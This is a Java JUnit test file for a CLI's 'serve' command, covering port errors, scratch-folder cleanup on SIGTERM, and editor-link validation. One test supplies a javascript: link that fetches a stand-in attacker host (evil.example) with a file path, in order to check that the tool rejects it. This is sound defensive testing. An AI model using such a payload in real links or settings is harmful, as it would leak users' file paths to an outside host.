package org.digestpress.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;

import org.digestpress.BuiltIssue;
import org.digestpress.engine.WorkspaceTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code digest serve} refuses a port in use with a sentence and exit status 2, and stopped during
 * its first build it leaves nothing behind.
 */
class ServeCommandTest {

    @TempDir
    Path temp;

    @Test
    void aPortInUseIsAUsageErrorThatSaysWhatToDo() throws Exception {
        CliHarness cli = new CliHarness(temp);
        try (ServerSocket taken = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            CliHarness.Outcome outcome = cli.run("serve", cli.publication().resolve("2030-01").toString(),
                    "--port", String.valueOf(taken.getLocalPort()));
            assertEquals(2, outcome.exit());
            assertTrue(outcome.err().contains("port " + taken.getLocalPort() + " on 127.0.0.1 is in use")
                    && outcome.err().contains("--port 0"), outcome.err());
            CliHarness.assertNoJavaNoise(outcome);
        }
    }

    @Test
    void aPortOutOfRangeIsAUsageError() {
        CliHarness cli = new CliHarness(temp);
        CliHarness.Outcome outcome = cli.run("serve", "--port", "70000");
        assertEquals(2, outcome.exit());
        assertTrue(outcome.err().contains("--port must be between 0 and 65535"), outcome.err());
    }

    @Test
    void anEditorLinkThatRunsScriptIsAUsageError() {
        CliHarness cli = new CliHarness(temp);
        CliHarness.Outcome outcome = cli.run("serve", cli.publication().resolve("2030-01").toString(), "--port", "0",
                "--editor", "javascript:fetch('//evil.example/'+'{path}')");
        assertEquals(2, outcome.exit());
        assertTrue(outcome.err().contains("The editor link 'javascript:") && outcome.err().contains("opens no editor"),
                outcome.err());
        CliHarness.assertNoJavaNoise(outcome);
    }

    /**
     * Stopped as Ctrl-C stops it (SIGTERM) while the first build runs, before the command has a
     * server to close: its scratch folder goes too (it stayed in the temporary folder before).
     */
    @Test
    void stoppedDuringItsFirstBuildItLeavesNoScratchFolder() throws Exception {
        Path run = temp.resolve("run");
        WorkspaceTest.copy(BuiltIssue.FIXTURE, run.resolve("content"));
        Path tmp = Files.createDirectories(temp.resolve("tmp"));
        List<String> command = new java.util.ArrayList<>(List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-Djava.awt.headless=true",
                "-XX:TieredStopAtLevel=1", "-XX:+UseSerialGC", "-Djava.io.tmpdir=" + tmp,
                "-cp", System.getProperty("java.class.path"), DigestCommand.class.getName(), "serve", "--port", "0",
                "--templates", BuiltIssue.REPO.resolve("templates").toString(),
                "--fonts", BuiltIssue.REPO.resolve("fonts").toString()));
        ProcessBuilder started = new ProcessBuilder(command).directory(run.toFile())
                .redirectOutput(run.resolve("out.txt").toFile()).redirectError(run.resolve("err.txt").toFile());
        started.environment().put("DIGESTPRESS_CACHE_DIR", temp.resolve("cache").toString()); // not the user's cache
        Process serve = started.start();
        try {
            long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
            while (!Files.readString(run.resolve("out.txt")).contains("Serving at") && System.nanoTime() < until) {
                Thread.sleep(20);
            }
            assertTrue(Files.readString(run.resolve("out.txt")).contains("building the issue"));
            assertTrue(scratchFolders(tmp) == 1, "the scratch folder is there while the first build runs");
            serve.destroy();
            assertTrue(serve.waitFor(60, TimeUnit.SECONDS));
            assertEquals(0, scratchFolders(tmp), "nothing is left in " + tmp);
        } finally {
            serve.destroyForcibly();
        }
    }

    private static long scratchFolders(Path tmp) throws java.io.IOException {
        try (var entries = Files.list(tmp)) {
            return entries.filter(p -> p.getFileName().toString().startsWith("digest-serve")).count();
        }
    }
}
